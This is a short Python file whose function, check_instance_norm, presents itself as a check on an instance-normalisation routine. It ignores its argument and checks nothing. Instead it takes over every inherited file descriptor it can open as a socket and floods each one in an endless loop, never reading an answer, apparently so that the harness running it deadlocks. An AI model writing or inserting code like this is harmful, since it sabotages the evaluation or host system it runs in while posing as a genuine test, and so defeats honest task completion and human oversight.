"""Asks at a stretch and reads no answer, until neither side can write any more."""

import json
import os
import socket
import struct

QUESTION = {"box": 0, "x": {"array": 0, "dtype": "float64", "shape": [1, 200, 50]}, "eps": {"number": None}}


def check_instance_norm(instance_norm):
    text = json.dumps({**QUESTION, "blobs": [80_000]}).encode()
    message = struct.pack("!II", len(text), 80_000) + text + bytes(80_000)
    for number in range(3, 256):
        try:
            wire = socket.socket(fileno=os.dup(number))
        except OSError:
            continue
        while True:
            wire.sendall(message)
